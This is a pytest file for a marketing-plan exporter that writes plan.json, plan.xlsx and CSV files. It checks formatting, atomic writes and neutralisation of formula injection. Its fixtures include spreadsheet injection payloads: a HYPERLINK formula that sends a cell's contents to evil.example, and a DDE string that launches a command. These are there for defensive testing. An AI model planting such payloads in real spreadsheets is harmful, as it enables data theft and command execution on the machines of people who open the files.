"""plan.json / plan.xlsx / CSV export: content, formatting, injection safety, atomicity."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from xlsxwriter.exceptions import DuplicateWorksheetName

from planner.errors import InputError
from planner.io import plan_files
from planner.io.atomic import atomic_path, atomic_write_text, ensure_not_input
from planner.io.plan_files import (
    inert_text,
    plan_json_schema,
    plan_to_json,
    write_csv,
    write_plan,
)
from planner.models import DailySpend, Order, Plan, Reason, VideoSummary
from planner.tools import Tool

# Written before the Chinese workbook: these tests read the English one (PLANNER_LANG=en).
pytestmark = pytest.mark.usefixtures("english")

SCHEMA_FILE = Path(__file__).resolve().parents[1] / "schema" / "plan.schema.json"

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我领券")'
PLUS = "+1 加购"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
CHINESE = "达人种草 · 小黄车 美妆护肤"


def _plan() -> Plan:
    return Plan(
        campaign="双11 美妆",
        chain="tmall",
        plan_date=date(2024, 11, 1),
        status="optimal",
        solver="highs",
        budget=200_000.0,
        total_spend=180_000.0,
        unspent=20_000.0,
        binding=["budget", "content_service minimum 50,000 yuan"],
        expected_gmv=396_000.0,
        bound_gmv=400_000.0,
        gap=0.01,
        roi_floor=1.2,
        roi_floor_source="campaign.yaml",
        expected_roi=2.2,
        seeding_share=0.62,
        kol_fees=30_000.0,
        solve_seconds=0.42,
        assumptions=["CPM 40 yuan", AT_SUM],
        orders=[
            Order(
                video_id="v1",
                tool=Tool.DOU_PLUS,
                start_date=date(2024, 11, 2),
                end_date=date(2024, 11, 4),
                booking_date=date(2024, 11, 1),
                budget=30_000.0,
                mode="smart",
                targeting=PLUS,
                expected_gmv=66_000.0,
                reasons=[
                    Reason(code="ROI_ABOVE_FLOOR", text=CHINESE),
                    Reason(code="INJECT", text=HYPERLINK),
                ],
            ),
            Order(
                video_id="v2",
                tool=Tool.CONTENT_SERVICE,
                start_date=date(2024, 11, 3),
                end_date=date(2024, 11, 3),
                booking_date=date(2024, 11, 1),
                budget=150_000.0,
                expected_gmv=330_000.0,
                fixed=True,
                reasons=[Reason(code="BOOKED", text="已预订，不可修改")],
            ),
        ],
        daily=[
            DailySpend(
                date=date(2024, 11, 3),
                video_id="v2",
                tool=Tool.CONTENT_SERVICE,
                spend=150_000.0,
                expected_gmv=330_000.0,
            ),
            DailySpend(
                date=date(2024, 11, 2),
                video_id="v1",
                tool=Tool.DOU_PLUS,
                spend=10_000.0,
                expected_gmv=22_000.0,
            ),
            DailySpend(
                date=date(2024, 11, 3),
                video_id="v1",
                tool=Tool.DOU_PLUS,
                spend=20_000.0,
                expected_gmv=44_000.0,
            ),
        ],
        videos=[
            VideoSummary(
                video_id="v1",
                gpm=80.0,
                traffic_roi=2.0,
                tier="mid",
                eligible_tools=[Tool.DOU_PLUS, Tool.CONTENT_SERVICE],
                reasons=[Reason(code="GPM", text=HYPERLINK)],
            ),
            VideoSummary(
                video_id="v2",
                gpm=88.0,
                traffic_roi=2.2,
                tier="head",
                eligible_tools=[Tool.CONTENT_SERVICE],
                reasons=[],
            ),
        ],
    )


def _snapshot(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir())}


def _header(ws: openpyxl.worksheet.worksheet.Worksheet) -> list[object]:
    return [c.value for c in ws[1]]


def _column(ws: openpyxl.worksheet.worksheet.Worksheet, name: str) -> list[openpyxl.cell.Cell]:
    idx = _header(ws).index(name) + 1
    return [row[0] for row in ws.iter_rows(min_row=2, min_col=idx, max_col=idx)]


@pytest.fixture
def workbook(tmp_path: Path) -> openpyxl.Workbook:
    extra = {"Links": pd.DataFrame({"video_id": ["v1"], "url": ["=1+1"], "budget": [1234.5]})}
    paths = write_plan(_plan(), tmp_path / "out", extra_sheets=extra)
    assert paths == {"json": tmp_path / "out" / "plan.json", "xlsx": tmp_path / "out" / "plan.xlsx"}
    return openpyxl.load_workbook(paths["xlsx"])


def test_sheet_names_in_order_with_extras_last(workbook: openpyxl.Workbook) -> None:
    assert workbook.sheetnames == [
        "Summary", "Schedule", "Orders", "Daily schedule", "Videos", "Spend chart",
        "Spend chart data", "Links"]


def test_chinese_is_the_default_language_of_the_workbook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PLANNER_LANG")
    book = openpyxl.load_workbook(write_plan(_plan(), tmp_path)["xlsx"])
    assert book.sheetnames == ["汇总", "排期表", "订单", "每日明细", "视频", "花费图", "花费图数据"]
    assert _header(book["订单"])[:3] == ["视频ID", "达人", "工具"]


# The schedule (two header rows, KOL columns frozen) and the chart sheet have their own layout.
TABLES = ("Summary", "Orders", "Daily schedule", "Videos", "Links")


def test_every_table_sheet_has_a_frozen_bold_header(workbook: openpyxl.Workbook) -> None:
    for ws in (workbook[name] for name in TABLES):
        assert ws.freeze_panes == "A2", ws.title
        assert all(c.font.bold for c in ws[1] if c.value is not None), ws.title
        assert ws.auto_filter.ref, ws.title


def test_no_formulas_and_injection_text_kept_verbatim(workbook: openpyxl.Workbook) -> None:
    texts: list[str] = []
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    blob = "\n".join(texts)
    for dangerous in (HYPERLINK, PLUS, AT_SUM, "=1+1"):
        assert dangerous in blob
    # Kept exactly, not prefixed with a quote.
    assert PLUS in texts
    assert AT_SUM in texts
    assert "=1+1" in texts


def test_orders_sheet_content_and_formats(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Orders"]
    assert _header(ws) == [
        "Video ID",
        "KOL",
        "Tool",
        "Start",
        "End",
        "Book on",
        "Budget (yuan)",
        "Mode",
        "Targeting",
        "Expected GMV (yuan)",
        "GMV P10",
        "GMV P90",
        "Expected ROI",
        "Booked",
        "Reasons",
        "Reason codes",
    ]
    assert [c.value for c in _column(ws, "Tool")] == ["Dou+", "Content service"]
    budget = _column(ws, "Budget (yuan)")
    assert [c.value for c in budget] == [30_000, 150_000]
    assert all("#,##0" in c.number_format for c in budget)
    assert all("#,##0" in c.number_format for c in _column(ws, "Expected GMV (yuan)"))
    roi = _column(ws, "Expected ROI")
    assert roi[0].value == pytest.approx(2.2)
    assert roi[0].number_format == "0.00"
    start = _column(ws, "Start")[0]
    assert start.is_date and start.value.date() == date(2024, 11, 2)
    assert start.number_format == "yyyy-mm-dd"
    reasons = _column(ws, "Reasons")[0].value
    # The sentences a buyer reads; their codes, one a line, in the last column for scripts.
    assert reasons == f"{CHINESE}\n{HYPERLINK}"
    assert _column(ws, "Reason codes")[0].value == "ROI_ABOVE_FLOOR\nINJECT"
    assert [c.value for c in _column(ws, "Booked")] == ["no", "yes"]
    assert [c.value for c in _column(ws, "Mode")] == ["smart", None]
    # xlsxwriter stores the character width plus its 0.71 cell padding.
    assert 40 < ws.column_dimensions["O"].width < 61  # the reasons column


def test_daily_sheet_is_long_and_sorted_by_date(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Daily schedule"]
    # The daily rows first; their day totals (what the sheet prints) after an empty column.
    assert _header(ws)[:6] == ["Date", "Video ID", "KOL", "Tool", "Spend (yuan)",
                               "Expected GMV (yuan)"]
    assert _header(ws)[6] in (None, "") and _header(ws)[7] == "Date (day totals)"
    rows = [[c.value for c in r][:6] for r in ws.iter_rows(min_row=2)]
    assert [(r[0].date(), r[1]) for r in rows] == [
        (date(2024, 11, 2), "v1"),
        (date(2024, 11, 3), "v1"),
        (date(2024, 11, 3), "v2"),
    ]
    assert all("#,##0" in c.number_format for c in _column(ws, "Spend (yuan)"))


def test_daily_rows_beyond_a_sheet_go_to_a_csv_beside_the_workbook_named_in_the_summary(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """More daily rows than Excel's 1,048,576 (lowered here to 2): the rows go to daily.csv,
    汇总 says where, and the 排期表 and the other sheets stay whole."""
    monkeypatch.setattr(plan_files, "DAILY_SHEET_MAX_ROWS", 2)
    paths = write_plan(_plan(), tmp_path / "out")
    assert paths["daily"] == tmp_path / "out" / "daily.csv"
    book = openpyxl.load_workbook(paths["xlsx"])
    assert "Daily schedule" not in book.sheetnames
    assert {"Summary", "Schedule", "Orders", "Videos"} <= set(book.sheetnames)
    summary = {r[0].value: r[1].value for r in book["Summary"].iter_rows(min_row=2)
               if r[0].value}
    assert summary["Daily rows file"].startswith("daily.csv (in this workbook's folder, 3 rows")
    raw = paths["daily"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    with paths["daily"].open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["Date", "Video ID", "KOL", "Tool", "Spend (yuan)",
                       "Expected GMV (yuan)"]
    assert [(r[0], r[1]) for r in rows[1:]] == [
        ("2024-11-02", "v1"), ("2024-11-03", "v1"), ("2024-11-03", "v2")]


def test_a_plan_whose_daily_rows_fit_writes_no_csv(tmp_path: Path) -> None:
    paths = write_plan(_plan(), tmp_path / "out")
    assert "daily" not in paths
    assert not (tmp_path / "out" / "daily.csv").exists()


def test_table_sheets_are_streamed_and_read_back_whole(tmp_path: Path) -> None:
    """Orders, daily rows, videos and extra sheets are written in constant-memory mode
    (one row held at a time, text inline in the sheet): every cell still reads back."""
    extra = {"Links": pd.DataFrame({"video_id": ["v1"], "url": ["=1+1"], "budget": [1234.5]})}
    path = write_plan(_plan(), tmp_path, extra_sheets=extra)["xlsx"]
    names = openpyxl.load_workbook(path).sheetnames
    with zipfile.ZipFile(path) as archive:
        inline = {name for i, name in enumerate(names, start=1)
                  if b't="inlineStr"' in archive.read(f"xl/worksheets/sheet{i}.xml")}
    assert inline == {"Orders", "Daily schedule", "Videos", "Links"}
    ws = openpyxl.load_workbook(path)["Links"]
    assert [[c.value for c in r] for r in ws.iter_rows()] == [
        ["Video ID", "Full URL", "Budget (yuan)"], ["v1", "=1+1", 1234.5]]


def test_videos_sheet(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Videos"]
    assert _header(ws) == ["Video ID", "KOL", "Tier", "GPM", "Traffic ROI", "ROI P10",
                           "ROI P90", "ROI basis", "Eligible tools", "Reasons", "Reason codes"]
    assert [c.value for c in _column(ws, "Eligible tools")] == [
        "Dou+、Content service",
        "Content service",
    ]
    assert [c.value for c in _column(ws, "Tier")] == ["mid-tier", "head"]
    assert _column(ws, "GPM")[0].number_format == "0.00"


def test_summary_sheet(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Summary"]
    values = {r[0].value: r[1] for r in ws.iter_rows(min_row=2) if r[0].value}
    assert values["Campaign"].value == "双11 美妆"
    # Money in one style, the yuan kept in the cell: the format says the unit.
    assert values["Budget"].value == 200_000
    assert values["Budget"].number_format == '"¥"#,##0'
    assert values["Solver"].value == "HiGHS"  # in the appendix, under the figures
    assert values["Seeding share"].number_format == "0.0%"
    assert values["Gap to bound"].number_format == "0.0%"
    assert values["Expected ROI"].number_format == "0.00"
    assert values["Plan date"].is_date
    cells = [c.value for r in ws.iter_rows(min_row=1) for c in r if c.value is not None]
    assert "budget" in cells and "CPM 40 yuan" in cells and AT_SUM in cells
    assert "Binding limits" in cells and "Assumptions" in cells


def test_chinese_width_counts_double() -> None:
    assert plan_files._text_width("千川") == 4
    assert plan_files._text_width("ab") == 2


def test_plan_json_round_trips(tmp_path: Path) -> None:
    plan = _plan()
    paths = write_plan(plan, tmp_path)
    text = paths["json"].read_text(encoding="utf-8")
    assert text == plan_to_json(plan)
    assert Plan.model_validate(json.loads(text)) == plan
    assert Plan.model_validate_json(text) == plan


def test_same_plan_gives_same_bytes(tmp_path: Path) -> None:
    write_plan(_plan(), tmp_path / "a")
    write_plan(_plan(), tmp_path / "b")
    assert _snapshot(tmp_path / "a") == _snapshot(tmp_path / "b")


def test_committed_schema_matches_model() -> None:
    committed = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    assert committed == plan_json_schema(), (
        "schema/plan.schema.json is stale; regenerate it from "
        "planner.io.plan_files.plan_json_schema() (json.dumps(indent=2, ensure_ascii=False))."
    )


def test_failed_xlsx_leaves_previous_files_and_no_temp(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_plan(_plan(), tmp_path)
    before = _snapshot(tmp_path)
    assert set(before) == {"plan.json", "plan.xlsx"}

    def broken_close(self: xlsxwriter.Workbook) -> None:
        # Simulates a crash halfway through saving: some bytes, then an error.
        Path(self.filename).write_bytes(b"PK\x03\x04 partial")
        raise OSError("disk full")

    monkeypatch.setattr(xlsxwriter.Workbook, "close", broken_close)
    changed = _plan().model_copy(update={"campaign": "changed"})
    with pytest.raises(OSError, match="disk full"):
        write_plan(changed, tmp_path)
    assert _snapshot(tmp_path) == before


def test_bad_extra_sheet_leaves_previous_files(tmp_path: Path) -> None:
    write_plan(_plan(), tmp_path)
    before = _snapshot(tmp_path)
    with pytest.raises(DuplicateWorksheetName, match=r"(?i)summary"):
        write_plan(_plan(), tmp_path, extra_sheets={"Summary": pd.DataFrame({"a": [1]})})
    assert _snapshot(tmp_path) == before


def test_refuses_to_overwrite_an_input(tmp_path: Path) -> None:
    videos = tmp_path / "plan.json"
    videos.write_text("not really a plan", encoding="utf-8")
    with pytest.raises(InputError, match="overwrite"):
        write_plan(_plan(), tmp_path, inputs=[tmp_path / "sub" / ".." / "plan.json"])
    assert videos.read_text(encoding="utf-8") == "not really a plan"
    assert _snapshot(tmp_path) == {"plan.json": b"not really a plan"}


def test_ensure_not_input_allows_distinct_files(tmp_path: Path) -> None:
    ensure_not_input([tmp_path / "plan.xlsx"], [tmp_path / "videos.csv"])
    with pytest.raises(InputError):
        ensure_not_input([tmp_path / "x.csv"], [str(tmp_path / "x.csv")])


def test_atomic_path_removes_temp_on_error(tmp_path: Path) -> None:
    target = tmp_path / "a.txt"
    atomic_write_text(target, "old")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        assert tmp.parent == tmp_path and tmp.suffix == ".txt"
        tmp.write_text("new", encoding="utf-8")
        raise RuntimeError("boom")
    assert [p.name for p in tmp_path.iterdir()] == ["a.txt"]
    assert target.read_text(encoding="utf-8") == "old"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("千川 ROI", "千川 ROI"),
        ("a=b", "a=b"),
        ("", ""),
    ],
    ids=["eq", "plus", "minus", "at", "tab", "cr", "chinese", "inner-eq", "empty"],
)
def test_inert_text(text: str, expected: str) -> None:
    assert inert_text(text) == expected


def test_write_csv_is_bom_utf8_and_inert(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {
            "kol_name": [HYPERLINK, "小美"],
            "product": [PLUS, None],
            "budget": [-100.0, 2.5],
        }
    )
    path = tmp_path / "links.csv"
    write_csv(df, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["kol_name", "product", "budget"]
    assert rows[1] == ["'" + HYPERLINK, "'" + PLUS, "-100.0"]
    assert rows[2] == ["小美", "", "2.5"]
    # The caller's frame is not modified.
    assert df.loc[0, "kol_name"] == HYPERLINK


def test_extra_sheet_keeps_index_dates_and_blanks(tmp_path: Path) -> None:
    kpi = pd.DataFrame(
        {
            "day": pd.to_datetime(["2024-11-01", "2024-11-02"]),
            "actual_roi": [1.5, float("nan")],
            "note": pd.array(["@SUM(A1)", None], dtype="string"),
        },
        index=pd.Index(["v1", "v2"], name="video_id"),
    )
    paths = write_plan(_plan(), tmp_path, extra_sheets={"KPI": kpi})
    ws = openpyxl.load_workbook(paths["xlsx"])["KPI"]
    # Column ids the catalogue does not all know stay ids (no half-translated header).
    assert _header(ws) == ["video_id", "day", "actual_roi", "note"]
    day = _column(ws, "day")[0]
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert [c.value for c in _column(ws, "actual_roi")] == [1.5, None]
    assert [c.value for c in _column(ws, "note")] == ["@SUM(A1)", None]


def test_a_money_column_is_as_wide_as_its_widest_figure_negative_or_positive(
    tmp_path: Path,
) -> None:
    frame = pd.DataFrame({"budget": [5.0, -1_234_567.4, 12.0, float("nan")],
                          "spend": [3.0, 9_876_543.0, 0.2, 7.0]})
    path = tmp_path / "t.xlsx"
    plan_files.write_frames_xlsx(path, {"T": frame})
    ws = openpyxl.load_workbook(path)["T"]
    # "-1,234,567" and "9,876,543", each with 2 columns of room (plus the cell's padding).
    assert 12 <= ws.column_dimensions["A"].width < 13
    assert 11 <= ws.column_dimensions["B"].width < 12


def test_reasons_said_once_read_as_each_said_alone() -> None:
    reasons = [
        Reason(code="targeted_over_15_days", text="targeted", params={"days": 19, "limit": 15}),
        Reason(code="targeted_over_15_days", text="targeted",
               params={"days": 19.0, "limit": 15}),
        Reason(code="kol_bidding_ok", text="KOL bidding possible"),
        Reason(code="targeted_over_15_days", text="targeted", params={"days": 19, "limit": 15}),
    ]
    said = plan_files._Said()
    assert plan_files._reasons_text(reasons, said) == plan_files._reasons_text(reasons)
    assert plan_files._reasons_text(reasons, said).split("\n")[:2] == [
        "targeted: published 19 days ago (>15)", "targeted: published 19.0 days ago (>15)"]
    assert len(said.by_key) == 3  # the first and the last reason are equal: said once
    assert len(said.by_id) == 4  # each object is found again without reading it


def test_plan_json_bytes_are_the_models_json_indented_with_a_newline() -> None:
    plan = _plan()
    assert plan_files.plan_json_bytes(plan) == (plan.model_dump_json(indent=2) + "\n").encode()


def test_a_workbook_put_together_in_memory_has_the_parts_of_one_put_together_on_disk(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    extra = {"附加": pd.DataFrame({"budget": [1.0, 2.0], "note": ["a", "b"]})}
    small = write_plan(_plan(), tmp_path / "memory", extra_sheets=extra)["xlsx"]
    monkeypatch.setattr(plan_files, "IN_MEMORY_ROWS", 0)  # every book on disk
    large = write_plan(_plan(), tmp_path / "disk", extra_sheets=extra)["xlsx"]
    with zipfile.ZipFile(small) as a, zipfile.ZipFile(large) as b:
        assert a.namelist() == b.namelist()
        assert all(a.read(name) == b.read(name) for name in a.namelist())


def test_a_small_workbook_keeps_its_scratch_in_the_memory_folder_and_removes_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "shm"
    folder.mkdir()
    monkeypatch.setattr(plan_files, "MEMORY_FOLDER", folder)
    monkeypatch.setattr(plan_files, "MEMORY_FOLDER_ROOM", 0)
    made: list[str | None] = []
    real = plan_files.tempfile.TemporaryDirectory

    def spy(*args: object, dir: str | Path | None = None, **kwargs: object) -> object:
        made.append(None if dir is None else str(dir))
        return real(*args, dir=dir, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(plan_files.tempfile, "TemporaryDirectory", spy)
    write_plan(_plan(), tmp_path / "out")
    assert made == [str(folder)]
    assert list(folder.iterdir()) == []  # the scratch folder went with the workbook


def test_without_a_memory_folder_the_scratch_goes_to_the_temporary_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plan_files, "MEMORY_FOLDER", tmp_path / "no_such_folder")
    assert plan_files._memory_folder() is None
    monkeypatch.setattr(plan_files, "MEMORY_FOLDER", tmp_path)
    monkeypatch.setattr(plan_files, "MEMORY_FOLDER_ROOM", 2**62)  # no machine has that room
    assert plan_files._memory_folder() is None
    assert write_plan(_plan(), tmp_path / "out")["xlsx"].exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # nothing left in it


def test_a_workbook_built_beside_the_other_files_is_the_one_built_after_them(
        tmp_path: Path) -> None:
    from planner.jobs.watchdog import run_side_by_side

    extra = {"附加": pd.DataFrame({"budget": [1.0, 2.0]})}
    links = (b"video_id,link\r\nv1,https://example.com\r\n")
    in_turn = write_plan(_plan(), tmp_path / "in_turn", extra_sheets=extra,
                         also={"links": (tmp_path / "in_turn" / "links.csv", links)})
    beside = write_plan(_plan(), tmp_path / "beside", extra_sheets=extra,
                        also={"links": (tmp_path / "beside" / "links.csv", links)},
                        side_by_side=run_side_by_side)
    assert in_turn["json"].read_bytes() == beside["json"].read_bytes()
    assert in_turn["links"].read_bytes() == beside["links"].read_bytes()
    with zipfile.ZipFile(in_turn["xlsx"]) as a, zipfile.ZipFile(beside["xlsx"]) as b:
        assert a.namelist() == b.namelist()
        assert all(a.read(name) == b.read(name) for name in a.namelist())
    assert sorted(p.name for p in (tmp_path / "beside").iterdir()) == [
        "links.csv", "plan.json", "plan.xlsx"]  # no temporary file left behind


def test_a_memory_folder_that_refuses_the_scratch_folder_leaves_it_to_the_temporary_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gone = tmp_path / "removed_after_the_check"
    monkeypatch.setattr(plan_files, "_memory_folder", lambda: gone)
    assert write_plan(_plan(), tmp_path / "out")["xlsx"].exists()
    assert not gone.exists()
